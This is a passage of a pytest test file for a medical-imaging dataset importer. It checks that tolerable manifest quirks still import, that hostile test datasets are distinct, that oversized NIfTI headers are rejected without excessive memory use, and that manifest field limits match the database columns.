    assert all(problem.isprintable() for problem in problems)  # names escaped: no control character is printed
    assert everything(media, scratch) == before


@pytest.mark.parametrize("name", TOLERATED)
def test_a_harmless_oddity_of_the_manifest_still_imports_the_case(name, tmp_path, media, scratch):
    dataset = DatasetBuilder(tmp_path / "dataset").add_case("C1")
    TOLERATED[name](dataset)
    if not (dataset.root / "manifest.csv").exists():
        dataset.write_manifest()

    report = import_dataset(dataset.root)

    assert report.imported == ["C1"] and not report.rejected, report.summary()
    case = Case.objects.get()
    assert case.lesions.get().get_label_display() == "Hepatocellular carcinoma" and case.patient.sex == "F"
    assert case.scanner_model in {"Prisma", "Magnetom-Prisma"}
    assert list(scratch.iterdir()) == []


def fingerprint(root: Path) -> str:
    """Digest of a folder as the importer would see it: names, link targets, kinds and bytes."""
    digest = hashlib.sha256()
    for folder, subfolders, files in sorted(os.walk(os.fsencode(root))):
        subfolders.sort()
        for name in sorted(subfolders + files):
            path = os.path.join(folder, name)
            digest.update(os.path.relpath(path, os.fsencode(root)) + b"\0")
            if os.path.islink(path):
                digest.update(b"link:" + os.fsencode(os.readlink(path)))
            elif os.path.isfile(path):
                digest.update(Path(os.fsdecode(path)).read_bytes())
            else:
                digest.update(b"dir" if os.path.isdir(path) else b"special")
    return digest.hexdigest()


def test_the_hostile_inputs_are_distinct_and_counted(tmp_path, capsys):
    pristine = DatasetBuilder(tmp_path / "pristine").add_case("C1")
    pristine.write_manifest()
    prints = {name: fingerprint(hostile_dataset(name, tmp_path / f"bad{n}").root) for n, name in enumerate(HOSTILE)}

    doubles = {p for p in prints.values() if list(prints.values()).count(p) > 1}
    assert not doubles, sorted(name for name, p in prints.items() if p in doubles)
    assert fingerprint(pristine.root) not in prints.values()
    with capsys.disabled():
        print(f"\n{len(set(prints.values()))} distinct hostile inputs; {len(TOLERATED)} harmless oddities")
    assert len(set(prints.values())) == len(HOSTILE) >= 150


def vm_kib(field: str) -> int:
    """A memory figure of this process from /proc (kB): VmHWM is the peak resident size, VmRSS the current."""
    return int(re.search(rf"^{field}:\s+(\d+) kB", Path("/proc/self/status").read_text(), re.M).group(1))


@pytest.mark.parametrize(
    "dims, code, bitpix, problem",
    [  # 10^9 int16 voxels, refused from the header; 105 million float64 (840 MB), under the cap, in a short stream
        ([3, 1000, 1000, 1000, 1, 1, 1, 1], 4, 16, "header claims 1,000,000,000 voxels"),
        ([3, 512, 512, 400, 1, 1, 1, 1], 64, 64, "truncated voxel data: 4,448 bytes where its header needs 838,861,1"),
    ],
)
def test_an_absurd_header_is_refused_without_allocating_its_voxels(
    dims, code, bitpix, problem, tmp_path, media, scratch
):
    dataset = DatasetBuilder(tmp_path / "dataset").add_case("C1")
    _header("T2WI", dim=dims, datatype=code, bitpix=bitpix)(dataset)
    dataset.write_manifest()
    Path("/proc/self/clear_refs").write_text("5")  # resets VmHWM to the current resident size
    resident = vm_kib("VmRSS")

    report = import_dataset(dataset.root)

    peak_growth_mb = (vm_kib("VmHWM") - resident) / 1024
    assert f"C1/T2WI.nii.gz: {problem}" in report.rejected["C1"][0] and not report.imported
    assert peak_growth_mb < 200, f"peak resident size grew by {peak_growth_mb:.0f} MB"
    assert stored_files(media) == [] and list(scratch.iterdir()) == []


def test_the_manifest_limits_are_the_database_columns():
    for column, limit in MAX_CHARACTERS.items():
        field = {"case": "source_name", "lesion": "source_name"}.get(column, column)
        model = apps.get_model("cases", "Lesion" if column == "lesion" else "Case")
        assert model._meta.get_field(field).max_length == limit, column
